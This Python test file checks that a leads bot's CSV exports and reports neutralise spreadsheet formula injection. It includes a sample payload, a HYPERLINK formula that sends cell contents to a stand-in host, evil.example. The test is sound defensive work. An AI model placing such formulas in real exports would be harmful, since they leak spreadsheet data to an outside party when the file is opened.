"""CSV exports open safely in a spreadsheet (issue #13, item 14): a cell a person typed that
starts like a formula (``=HYPERLINK(...)``, ``+``, ``-``, ``@``) is neutralised."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from pathlib import Path

from typer.testing import CliRunner

from bot.i18n import Catalog
from bot.leads.desks import Desks
from bot.leads.service import LeadService
from bot.settings import Settings
from bot.storage import Database
from ops.cli import app

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


async def _seed(settings: Settings) -> None:
    db = Database(settings.sqlalchemy_url)
    await db.migrate()
    service = LeadService(db=db, settings=settings, desks=Desks(), catalog=Catalog.load(),
                          desk_names={})
    await service.submit({"company": EVIL, "contact_name": "@SUM(1+1)", "product": "-2+3",
                          "phone": "+33612345678", "desk": "cci-aisne"}, channel="telegram",
                         conversation_key="telegram:1", user_key="telegram:1",
                         consent_at=dt.datetime.now(dt.UTC).isoformat(),
                         consent_version="2026-11")
    await db.log_question(channel="t", lang="fr", question="=1+1", declined=True, reason="",
                          top_source=None, latency_ms=1.0)
    await db.close()


def test_leads_export_and_reports_neutralise_formulas(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    asyncio.run(_seed(Settings(_env_file=None, data_dir=tmp_path,
                               database_url=url)))
    env = {"RELOCBOT_DATA_DIR": str(tmp_path), "DATABASE_URL": url}
    runner = CliRunner()
    exported = runner.invoke(app, ["leads", "export", "--csv"], env=env)
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert rows[0]["company"] == "'" + EVIL
    assert (rows[0]["contact_name"], rows[0]["product"], rows[0]["phone"]) == (
        "'@SUM(1+1)", "'-2+3", "'+33612345678")
    for report in ("gaps", "stats"):
        printed = runner.invoke(app, ["report", report, "--csv"], env=env)
        assert printed.exit_code == 0, printed.output
        cells = [cell for row in csv.reader(io.StringIO(printed.stdout)) for cell in row]
        assert cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
